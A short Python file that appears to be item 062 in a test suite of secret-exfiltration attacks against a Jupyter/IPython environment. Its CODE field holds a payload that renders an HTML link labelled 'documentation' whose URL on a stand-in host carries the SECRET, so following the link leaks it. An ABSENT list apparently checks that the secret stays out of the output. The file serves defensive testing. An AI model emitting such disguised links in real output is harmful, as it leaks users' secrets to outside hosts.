"""Attack 062: link out"""

IDEA = "A link that carries the secret when it is followed."
SOURCE = "phishing"
WAY = "iopub/display_data/data"
CODE = """
from IPython.display import HTML, display

display(HTML('<a href="https://example.org/%s">documentation</a>' % SECRET))
"""
ABSENT = ["SECRET"]
